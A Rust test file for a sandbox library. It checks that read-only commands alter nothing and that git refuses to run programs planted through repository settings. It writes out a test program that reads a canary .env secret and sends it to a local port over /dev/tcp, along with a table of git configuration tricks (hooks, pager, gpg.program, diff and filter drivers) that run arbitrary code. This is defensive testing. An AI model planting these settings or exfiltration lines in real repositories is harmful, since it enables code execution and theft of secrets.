//! Commands that may only read: their attempts to change, reach and run things.

use std::fs;
use std::io::ErrorKind as IoErrorKind;
use std::net::TcpListener;
use std::os::unix::fs::MetadataExt as _;
use std::path::Path;

use silcrow_sandbox::{ConfinedCommand, ErrorKind, Sandbox, SandboxLayers};

use super::{Done, Place, finish, run, write};

fn read(sandbox: &Sandbox, script: &str) -> Done {
    finish(sandbox.spawn(&ConfinedCommand::shell(script).read_only()).unwrap())
}

/// Commands that must change nothing in the root, which has `file` and `sub/other`.
const CHANGES: &[&str] = &[
    "echo x > new",
    "echo x > file",
    ": >> sub/other",
    "rm file",
    "mv file sub/file",
    "mkdir new",
    "ln file new",
    "ln -s file new",
    "touch file",
    "touch -d 2001-01-01 file",
    "chmod 600 file",
    "chmod 700 .",
    "chown 1:1 file",
    "chgrp 1 file",
    "python3 -c 'import os; os.utime(\"file\", (1, 1))'",
    "python3 -c 'import os; os.setxattr(\"file\", \"user.a\", b\"b\")'",
    "python3 -c 'import os; os.truncate(\"file\", 0)'",
    "python3 -c 'import fcntl, os; fcntl.ioctl(os.open(\"file\", 0), 0x40086602, b\"\\x40\" + bytes(7))'",
    "sed -i s/a/b/ file",
];

#[test]
fn nothing_in_the_root_changes() {
    let place = Place::new();
    write(place.path().join("sub/other"), "as it was");
    write(place.path().join("file"), "as it was");
    let state = |path: &str| {
        let at = fs::metadata(place.path().join(path)).unwrap();
        let times = (at.ctime(), at.ctime_nsec(), at.mtime(), at.mtime_nsec());
        (at.ino(), at.len(), at.mode(), at.uid(), times)
    };
    let states = || [".", "file", "sub", "sub/other"].map(state);
    for sandbox in place.sandboxes() {
        assert!(sandbox.can_enforce_read_only());
        let before = states();
        for script in CHANGES {
            let done = read(&sandbox, script);
            assert_eq!(states(), before, "{script}: {done:?}");
        }
        let done = read(&sandbox, "cat file sub/other; echo tmp > $TMPDIR/f; cat $TMPDIR/f");
        assert_eq!(done.stdout, "as it wasas it wastmp\n", "{done:?}");
    }
}

#[test]
fn read_only_command_needs_enforced_network_isolation() {
    let place = Place::new();
    let landlock_alone = SandboxLayers { landlock: true, ..SandboxLayers::NONE };
    let without_seccomp = SandboxLayers { seccomp: false, ..SandboxLayers::ALL };
    for layers in [landlock_alone, without_seccomp] {
        let sandbox = Sandbox::new(place.options().with_layers(layers)).unwrap();
        assert!(!sandbox.can_enforce_read_only());
        let error = sandbox.spawn(&ConfinedCommand::shell("ls").read_only()).unwrap_err();
        assert_eq!(error.kind(), ErrorKind::Unavailable);
    }
}

/// Settings of a repository that run the program `$P`, with the commands of git that would run it,
/// and whether a setting switches it off.
const SETTINGS: &[(&str, &str, bool)] = &[
    ("git config core.fsmonitor $P", "git status", true),
    (
        "mkdir hooks; cp $P hooks/post-index-change; git config core.hooksPath hooks",
        "git status",
        true,
    ),
    ("cp $P .git/hooks/post-index-change", "git status; git diff", true),
    ("git config core.pager $P; git config pager.log $P", "git log", true),
    (SIGNED, "git log", true),
    ("git config diff.external $P", "git diff; git log -p --ext-diff", false),
    ("git config diff.x.command $P; echo '* diff=x' > .gitattributes", "git diff", false),
    (
        "git config diff.x.textconv $P; echo '* diff=x' > .gitattributes",
        "git diff; git show",
        false,
    ),
    (
        "git config diff.x.textconv $P; echo '* diff=x' > .git/info/attributes",
        "git blame file",
        false,
    ),
    (
        "git config filter.x.clean $P; echo '* filter=x' > .gitattributes",
        "git status; git diff",
        false,
    ),
    ("git config filter.x.process $P; echo '* filter=x' > .gitattributes", "git status", false),
];

/// Makes a commit that seems signed, whose signature git checks by a program.
const SIGNED: &str = "git config log.showSignature true; git config gpg.program $P; \
    git cat-file commit HEAD | sed '/^committer/a gpgsig -----BEGIN PGP SIGNATURE-----\\n \\n a\\n -----END PGP SIGNATURE-----' \
    | git hash-object -t commit -w --stdin | xargs git update-ref HEAD";

/// A program that records that it ran, writes, connects, and shows a secret.
fn program(listener: &TcpListener) -> String {
    let port = listener.local_addr().unwrap().port();
    format!(
        "#!/bin/bash\necho RAN >&2\necho RAN\ntouch \"$ROOT/pwned\"\ncat \"$ROOT/.env\" >&2\n\
         cat \"$ROOT/.env\" > /dev/tcp/127.0.0.1/{port} && echo REACHED\n"
    )
}

#[test]
fn git_runs_no_harmful_repository_settings() {
    for (settings, commands, is_told) in SETTINGS {
        let place = Place::new();
        let root = place.path();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        write(root.join("program"), &program(&listener));
        write(root.join("file"), "one\n");
        write(root.join(".gitignore"), ".env\n");
        write(root.join(".env"), "CANARY\n");
        set_up(
            &root,
            &format!(
                "chmod +x program; {COMMIT}; echo two >> file; touch -d 2001-01-01 program; export P=$PWD/program; {settings}"
            ),
        );
        let is_secret = |path: &Path| path.ends_with(".env");
        for sandbox in place.sandboxes_with(|options| options.with_secret_names(is_secret)) {
            let done = read(&sandbox, &format!("export ROOT=$PWD; {commands}"));
            let all = format!("{}{}", done.stdout, done.stderr);
            assert!(!all.contains("CANARY") && !all.contains("REACHED"), "{settings}: {done:?}");
            assert!(!root.join("pwned").exists(), "{settings}: {done:?}");
            let waiting = listener.accept().map(drop).unwrap_err().kind();
            assert_eq!(waiting, IoErrorKind::WouldBlock, "{settings}");
            assert!(!is_told || !all.contains("RAN"), "{settings}: {done:?}");
            assert!(!is_told || done.outcome.code == Some(0), "{settings}: {done:?}");
        }
        // Outside of the sandbox the program would have run.
        let place = root.display().to_string();
        let out = std::process::Command::new("sh")
            .args(["-c", &format!("cd {place}; export ROOT=$PWD; {commands}")])
            .env("GIT_PAGER_IN_USE", "1")
            .output()
            .unwrap();
        let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
        let needs_terminal = settings.contains("pager");
        assert!(
            needs_terminal || all.contains("RAN") || root.join("pwned").exists(),
            "{settings}: {all}"
        );
    }
}

#[test]
fn git_ignores_bare_repositories_within_a_clone() {
    let place = Place::new();
    let root = place.path();
    write(root.join("file"), "one\n");
    set_up(
        &root,
        &format!("{COMMIT}; git init -q --bare in/bare; git -C in/bare config core.worktree ."),
    );
    for sandbox in place.sandboxes() {
        let done = read(&sandbox, "cd in/bare && git status");
        assert_ne!(done.outcome.code, Some(0), "{done:?}");
        assert!(done.stderr.contains("safe.bareRepository"), "{done:?}");
        let done = read(&sandbox, "git status --short; git log --oneline | wc -l");
        assert!(done.stdout.contains("?? in/") && done.stdout.ends_with("1\n"), "{done:?}");
    }
}

#[test]
fn a_project_does_not_bring_its_own_programs() {
    let place = Place::new();
    write(place.path().join("ls"), "#!/bin/sh\necho OWN\n");
    set_up(&place.path(), "chmod +x ls");
    for sandbox in place.sandboxes() {
        let done = run(&sandbox, "echo $PATH; ls");
        assert!(!done.stdout.contains("OWN"), "{done:?}");
        let entries = done.stdout.lines().next().unwrap().split(':');
        assert!(entries.clone().all(|entry| entry.starts_with('/')), "{done:?}");
    }
}

const COMMIT: &str = "git init -q .; git config user.email a@b; git config user.name a; git add .; \
                      git commit -qm one";

fn set_up(root: &Path, script: &str) {
    let script = format!("cd {}; {script}", root.display());
    let done = std::process::Command::new("sh").args(["-c", &script]).output().unwrap();
    assert!(done.status.success(), "{}", text(&done.stderr));
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}
